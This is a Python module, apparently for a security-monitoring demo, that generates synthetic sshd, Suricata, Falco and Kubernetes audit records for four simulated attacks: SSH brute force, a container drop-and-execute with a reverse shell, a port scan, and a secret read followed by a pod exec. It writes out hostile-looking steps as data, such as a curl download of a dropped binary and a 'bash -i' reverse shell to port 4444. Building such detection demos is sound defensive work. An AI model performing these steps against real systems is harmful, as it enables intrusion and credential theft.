"""The attacks the demo mixes into its background, each as the sensors in the field report it.

- ``ssh-brute-force``: an internet address guesses passwords on the bastion over four to six connections (sshd
  ``Invalid user`` / ``Failed password``, pam_unix failures, Suricata ssh records), gets in with an operator's
  password on the next one (``ET SCAN Potential SSH Scan``, ``Accepted password``, session opened) and runs
  sudo.
- ``container-shell-egress``: an operator account opens a terminal in a processing pod (``pods/exec``, Falco
  ``Terminal shell in container``), fetches a binary with curl (Suricata ``ET POLICY curl User-Agent
  Outbound``, http, fileinfo), runs it (Falco ``Drop and execute new binary in container``) and opens a
  reverse shell (Falco ``Redirect STDOUT/STDIN to Network Connection in Container``; Suricata flows from the
  pod's address to the external one).
- ``port-scan``: an internet address SYN-scans the ingress on nmap's top 100 ports in about 20 s (one Suricata
  flow per port, ``ET SCAN NMAP -sS window 1024`` and the database-port ``ET SCAN`` alerts).
- ``secret-read-then-exec``: an operator's kubeconfig, used from an internet address, lists and reads secrets
  in ``catalog``, then opens a shell in the catalog API (``create`` on ``pods/exec``; Falco sees the shell).

Each lasts from a few seconds to about a minute from the demo time it is given (the flow records that close it
follow after Suricata's flow timeout).
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from datetime import timedelta
from functools import partial
from typing import Any

from security.demo import formats
from security.demo.formats import CONNECTION_FIELDS, PROCESS_FIELDS, FalcoRule, Flow, KubeUser, Signature
from security.demo.site import (
    AUTH_INFO,
    AUTHPRIV_INFO,
    AUTHPRIV_NOTICE,
    BASTION_IP,
    INGRESS_IP,
    KUBE_VERSION,
    SURICATA,
    Emission,
    Person,
    Pod,
    Site,
    audit_event,
    closed_flow,
    eve_event,
    falco_event,
    rbac,
    ssh_versions,
    sshd_line,
)

NMAP_TOP_100 = (
    7, 9, 13, 21, 22, 23, 25, 26, 37, 53, 79, 80, 81, 88, 106, 110, 111, 113, 119, 135, 139, 143, 144, 179,
    199, 389, 427, 443, 444, 445, 465, 513, 514, 515, 543, 544, 548, 554, 587, 631, 646, 873, 990, 993, 995,
    1025, 1026, 1027, 1028, 1029, 1110, 1433, 1720, 1723, 1755, 1900, 2000, 2001, 2049, 2121, 2717, 3000,
    3128, 3306, 3389, 3986, 4899, 5000, 5009, 5051, 5060, 5101, 5190, 5357, 5432, 5631, 5666, 5800, 5900,
    6000, 6001, 6646, 7070, 8000, 8008, 8009, 8080, 8081, 8443, 8888, 9100, 9999, 10000, 32768, 49152,
    49153, 49154, 49155, 49156, 49157,
)  # fmt: skip
"""The ports ``nmap -F`` scans."""
_OPEN_PORTS = frozenset({80, 443})
"""What the ingress answers on; every other port answers the SYN with a reset."""
_GUESSED_USERS = ("admin", "ubuntu", "test", "oracle", "postgres", "ftpuser")
_MAX_AUTH_TRIES = 6
"""sshd's default: the connection is cut after this many failures."""
_ATTEMPT_EVERY_S = 2.5
_DROP_DIR = "/tmp/"  # noqa: S108 - not a directory refsys writes to: where the attacker drops its binary
_DROPPED = f"{_DROP_DIR}kworkerd"
_EDIT_ROLE = 'of ClusterRole "edit" to Group "oidc:eo-operators"'


# What the attacks trigger: rules of falcosecurity/rules (their output formats verbatim) and of Emerging
# Threats Open, as the sensors report them.
TERMINAL_SHELL = FalcoRule(
    "Terminal shell in container",
    "Notice",
    "A shell was spawned in a container with an attached terminal | "
    f"{PROCESS_FIELDS} exe_flags=%evt.arg.flags",
    ("maturity_stable", "container", "shell", "mitre_execution", "T1059"),
)
REDIRECT_TO_NETWORK = FalcoRule(
    "Redirect STDOUT/STDIN to Network Connection in Container",
    "Notice",
    "Redirect stdout/stdin to network connection | gparent=%proc.aname[2] ggparent=%proc.aname[3] "
    f"gggparent=%proc.aname[4] fd.sip=%fd.sip {CONNECTION_FIELDS} {PROCESS_FIELDS}",
    ("maturity_stable", "container", "network", "process", "mitre_execution", "T1059"),
)
DROP_AND_EXECUTE = FalcoRule(
    "Drop and execute new binary in container",
    "Critical",
    "Executing binary not part of base image | proc_exe=%proc.exe proc_sname=%proc.sname "
    "gparent=%proc.aname[2] proc_exe_ino_ctime=%proc.exe_ino.ctime proc_exe_ino_mtime=%proc.exe_ino.mtime "
    "proc_exe_ino_ctime_duration_proc_start=%proc.exe_ino.ctime_duration_proc_start proc_cwd=%proc.cwd "
    f"container_start_ts=%container.start_ts {PROCESS_FIELDS} exe_flags=%evt.arg.flags",
    ("maturity_stable", "container", "process", "mitre_persistence", "TA0003", "PCI_DSS_11.5.1"),
)
RECON = "Attempted Information Leak"  # the category of ET's ``classtype:attempted-recon``
NMAP_SYN_SCAN = Signature(2009582, 3, "ET SCAN NMAP -sS window 1024", RECON, 2)
SSH_SCAN = Signature(2001219, 20, "ET SCAN Potential SSH Scan", RECON, 2)
CURL_USER_AGENT = Signature(2013028, 6, "ET POLICY curl User-Agent Outbound", RECON, 2)
DATABASE_PROBES = {
    port: Signature(sid, 3, f"ET SCAN Suspicious inbound to {name} port {port}", "Potentially Bad Traffic", 2)
    for port, sid, name in (
        (1433, 2010935, "MSSQL"), (1521, 2010936, "Oracle SQL"), (3306, 2010937, "mySQL"),
        (5432, 2010939, "PostgreSQL"),
    )
}  # fmt: skip


@dataclass(frozen=True)
class Scenario:
    name: str
    build: Callable[[Site, float], list[Emission]]
    """The scenario's events, starting at the given demo time."""


# --- SSH brute force ---------------------------------------------------------------------------------------


def ssh_brute_force(site: Site, at_s: float) -> list[Emission]:
    rng = site.rng
    attacker, victim = site.external_ip(), rng.choice(site.people)
    connections = rng.randint(4, 6)
    events: list[Emission] = []
    for index in range(connections):
        # Dictionary users first; the last connections go for the operator account the attacker has found.
        user = victim.login if index >= connections - 2 else rng.choice(_GUESSED_USERS)
        flow = site.flow(attacker, BASTION_IP, 22, "TCP", "ssh")
        attempts = rng.randint(3, _MAX_AUTH_TRIES)
        duration_s = 1.2 + attempts * _ATTEMPT_EVERY_S
        events.append(eve_event(at_s + 0.2, flow, "ssh", {"ssh": ssh_versions("libssh_0.10.6")}))
        events += _failed_connection(at_s, site.pid(), flow, user, attempts, valid=user == victim.login)
        octets = (2400 + attempts * 600, 3000 + attempts * 500)
        events.append(closed_flow(site, flow, at_s, duration_s, octets))
        at_s += duration_s + rng.uniform(0.3, 1.5)
    # This fifth to seventh connection within two minutes crosses the threshold of the SSH scan rule.
    flow = site.flow(attacker, BASTION_IP, 22, "TCP", "ssh")
    octets = (rng.randint(6_000, 30_000), rng.randint(9_000, 90_000))
    return [
        *events,
        Emission(at_s, "suricata", SURICATA, partial(formats.alert, flow=flow, signature=SSH_SCAN)),
        eve_event(at_s + 0.2, flow, "ssh", {"ssh": ssh_versions("libssh_0.10.6")}),
        *_break_in(at_s + 1.5, site.pid(), flow, victim),
        closed_flow(site, flow, at_s, rng.uniform(60, 300), octets, alerted=True),
    ]


def _failed_connection(
    at_s: float, pid: int, flow: Flow, user: str, attempts: int, *, valid: bool
) -> list[Emission]:
    """One connection of password guesses as sshd and pam_unix log it, until sshd or the client gives up."""
    ip, port = flow.src_ip, flow.src_port
    who = user if valid else f"invalid user {user}"
    state = "authenticating" if valid else "invalid"
    pam = f"logname= uid=0 euid=0 tty=ssh ruser= rhost={ip}" + (f"  user={user}" if valid else "")
    end = 1.2 + attempts * _ATTEMPT_EVERY_S
    lines: list[tuple[float, str, int]] = []
    if not valid:
        lines.append((0.05, f"Invalid user {user} from {ip} port {port}", AUTH_INFO))
        lines.append((1.0, "pam_unix(sshd:auth): check pass; user unknown", AUTHPRIV_NOTICE))
    lines.append((1.0, f"pam_unix(sshd:auth): authentication failure; {pam}", AUTHPRIV_NOTICE))
    for attempt in range(attempts):
        message = f"Failed password for {who} from {ip} port {port} ssh2"
        lines.append((1.2 + attempt * _ATTEMPT_EVERY_S, message, AUTH_INFO))
    if attempts == _MAX_AUTH_TRIES:
        message = (
            f"error: maximum authentication attempts exceeded for {who} from {ip} port {port} ssh2 [preauth]"
        )
        lines.append((end, message, AUTH_INFO))
        message = (
            f"Disconnecting {state} user {user} {ip} port {port}: Too many authentication failures [preauth]"
        )
        lines.append((end, message, AUTH_INFO))
    else:
        lines.append((end, f"Connection closed by {state} user {user} {ip} port {port} [preauth]", AUTH_INFO))
    lines.append((end, f"PAM {attempts - 1} more authentication failures; {pam}", AUTHPRIV_NOTICE))
    return [sshd_line(at_s + offset, pid, text, priority=priority) for offset, text, priority in lines]


def _break_in(at_s: float, pid: int, flow: Flow, victim: Person) -> list[Emission]:
    ip, port, login = flow.src_ip, flow.src_port, victim.login
    opened = f"pam_unix(sshd:session): session opened for user {login}(uid={victim.uid}) by (uid=0)"
    sudo = f"{login} : TTY=pts/3 ; PWD=/home/{login} ; USER=root ; COMMAND=/usr/bin/id"
    return [
        sshd_line(at_s, pid, f"Accepted password for {login} from {ip} port {port} ssh2"),
        sshd_line(at_s + 0.02, pid, opened, priority=AUTHPRIV_INFO),
        sshd_line(at_s + 14, pid + 7, sudo, priority=AUTHPRIV_NOTICE, app="sudo"),
    ]


# --- a shell in a container, then egress -------------------------------------------------------------------


def container_shell_egress(site: Site, at_s: float) -> list[Emission]:
    rng = site.rng
    pod, insider = rng.choice(site.pods_in("eo-processing")), rng.choice(site.people)
    server, port = site.external_ip(), site.port()
    shell_s = rng.uniform(25, 40)
    shell = {**_root("bash", "/usr/bin/bash", "runc", "bash"), "evt.arg.flags": "EXE_LOWER_LAYER"}
    dropped = {
        **_root("kworkerd", _DROPPED, "bash", "kworkerd"), "proc.exe": "./kworkerd", "proc.sname": "bash",
        "proc.aname[2]": "runc", "proc.cwd": _DROP_DIR, "evt.arg.flags": "EXE_WRITABLE|EXE_UPPER_LAYER",
        # Falco's times in epoch nanoseconds; here, how long before the alert (see formats.falco_alert).
        "proc.exe_ino.ctime": timedelta(seconds=3.5), "proc.exe_ino.mtime": timedelta(seconds=3.5),
        "proc.exe_ino.ctime_duration_proc_start": 3_480_000_000, "container.start_ts": timedelta(days=2),
    }  # fmt: skip
    reverse_shell = {
        **_root("bash", "/usr/bin/bash", "kworkerd", "bash -i", event_type="dup2"), "proc.aname[2]": "bash",
        "proc.aname[3]": "runc", "proc.aname[4]": "containerd-shim", "fd.sip": server, "fd.lport": port,
        "fd.name": f"{pod.ip}:{port}->{server}:4444", "fd.rport": 4444, "fd.type": "ipv4", "fd.l4proto": "tcp",
    }  # fmt: skip
    flow = site.flow(pod.ip, server, 4444, "TCP", src_port=port)
    octets = (rng.randint(3_000, 40_000), rng.randint(2_000, 20_000))
    return [
        *_exec(site, at_s, _kubectl(insider, insider.vpn_ip), pod, "bash", shell_s + 20),
        falco_event(pod, at_s + 0.4, TERMINAL_SHELL, shell),
        *_download(site, at_s + 8, pod, server),
        falco_event(pod, at_s + 13, DROP_AND_EXECUTE, dropped),
        falco_event(pod, at_s + 20, REDIRECT_TO_NETWORK, reverse_shell),
        closed_flow(site, flow, at_s + 20, shell_s, octets),
    ]


def _download(site: Site, at_s: float, pod: Pod, server: str) -> list[Emission]:
    """``curl -o /tmp/kworkerd http://<server>/x86_64/kworkerd``, as the edge sensor sees it."""
    flow = site.flow(pod.ip, server, 80, "TCP", "http")
    size = site.rng.randint(2_500_000, 3_500_000)
    http = {
        "hostname": server, "url": "/x86_64/kworkerd", "http_user_agent": "curl/7.88.1",
        "http_content_type": "application/octet-stream", "http_method": "GET", "protocol": "HTTP/1.1",
        "status": 200, "length": size,
    }  # fmt: skip
    fileinfo = {
        "filename": "/x86_64/kworkerd", "gaps": False, "state": "CLOSED", "stored": False, "size": size,
        "magic": "ELF 64-bit LSB executable, x86-64, version 1 (SYSV), statically linked, stripped",
        "sha256": site.hex_id(64), "tx_id": 0,
    }  # fmt: skip
    curl = partial(
        formats.alert, flow=flow, signature=CURL_USER_AGENT, octets=(286, 74), extra={"http": http}
    )
    file = partial(
        formats.eve, flow=flow, event_type="fileinfo", body={"http": http, "fileinfo": fileinfo}, reverse=True
    )
    return [
        Emission(at_s + 0.02, "suricata", SURICATA, curl),
        eve_event(at_s + 0.05, flow, "http", {"tx_id": 0, "http": http}),
        Emission(at_s + 1.5, "suricata", SURICATA, file),
        closed_flow(site, flow, at_s, 1.5, (420, size + 380), alerted=True),
    ]


def _root(
    name: str, exepath: str, parent: str, cmdline: str, *, event_type: str = "execve"
) -> dict[str, Any]:
    """A root process on the attacker's terminal, in Falco's fields."""
    return {
        "evt.type": event_type, "user.name": "root", "user.uid": 0, "user.loginuid": -1, "proc.name": name,
        "proc.exepath": exepath, "proc.pname": parent, "proc.cmdline": cmdline, "proc.tty": 34816,
    }  # fmt: skip


# --- port scan ---------------------------------------------------------------------------------------------


def port_scan(site: Site, at_s: float) -> list[Emission]:
    rng = site.rng
    scanner, src_port = site.external_ip(), site.port()  # nmap -sS sends every probe from one source port
    ports = list(NMAP_TOP_100)
    rng.shuffle(ports)
    events: list[Emission] = []
    for index, port in enumerate(ports):
        at_s += rng.uniform(0.05, 0.35)
        flow = site.flow(scanner, INGRESS_IP, port, "TCP", src_port=src_port)
        signature = NMAP_SYN_SCAN if index == 0 else DATABASE_PROBES.get(port)
        if signature is not None:
            render = partial(formats.alert, flow=flow, signature=signature)
            events.append(Emission(at_s, "suricata", SURICATA, render))
        if port in _OPEN_PORTS:  # SYN, SYN-ACK, then the scanner's RST
            octets, flags = (118, 58), (0x06, 0x12)
        else:  # SYN answered by RST-ACK
            octets, flags = (58, 54), (0x02, 0x14)
        alerted = signature is not None
        events.append(closed_flow(site, flow, at_s, 0.0, octets, tcp_flags=flags, alerted=alerted))
    return events


# --- secret read, then kubectl exec ------------------------------------------------------------------------


def secret_read_then_exec(site: Site, at_s: float) -> list[Emission]:
    rng = site.rng
    namespace, pod = "catalog", site.pod("catalog-api")
    # An operator's kubeconfig, used from outside the VPN.
    user = _kubectl(rng.choice(site.people), site.external_ip())
    granted = {"namespace": namespace, "reason": rbac(f'RoleBinding "eo-operators/{namespace}"', _EDIT_ROLE)}
    reads = [
        (0, "list", "secrets", None, "limit=500"),
        (4, "get", "secrets", "catalog-db-credentials", ""),
        (9, "get", "secrets", "catalog-object-store-keys", ""),
        (15, "list", "pods", None, "limit=500"),
    ]
    shell = _root("sh", "/bin/sh", "runc", "sh")
    return [
        *(
            audit_event(
                site, at_s + offset_s, user, verb, resource=resource, name=name, query=query, **granted
            )
            for offset_s, verb, resource, name, query in reads
        ),
        *_exec(site, at_s + 21, user, pod, "sh", rng.uniform(20, 40)),
        falco_event(pod, at_s + 21.4, TERMINAL_SHELL, {**shell, "evt.arg.flags": "EXE_LOWER_LAYER"}),
    ]


def _kubectl(person: Person, source_ip: str) -> KubeUser:
    groups = ("oidc:eo-operators", "system:authenticated")
    return KubeUser(person.k8s_user, groups, f"kubectl/{KUBE_VERSION}", source_ip)


def _exec(
    site: Site, at_s: float, user: KubeUser, pod: Pod, command: str, session_s: float
) -> list[Emission]:
    """``kubectl exec -it``: audited when the stream starts (``ResponseStarted``) and when it ends, both under
    the request's audit ID."""
    query = f"command={command}&container={pod.container}&stdin=true&stdout=true&tty=true"
    request = {
        "audit_id": site.uuid(), "resource": "pods", "subresource": "exec", "namespace": pod.namespace,
        "name": pod.name, "query": query, "code": 101,
        "reason": rbac(f'RoleBinding "eo-operators/{pod.namespace}"', _EDIT_ROLE),
    }  # fmt: skip
    return [
        audit_event(site, at_s, user, "create", stage="ResponseStarted", latency_ms=30, **request),
        audit_event(site, at_s + session_s, user, "create", latency_ms=int(session_s * 1000), **request),
    ]


SCENARIOS = (
    Scenario("ssh-brute-force", ssh_brute_force),
    Scenario("container-shell-egress", container_shell_egress),
    Scenario("port-scan", port_scan),
    Scenario("secret-read-then-exec", secret_read_then_exec),
)
"""In the order the demo rotates through them."""
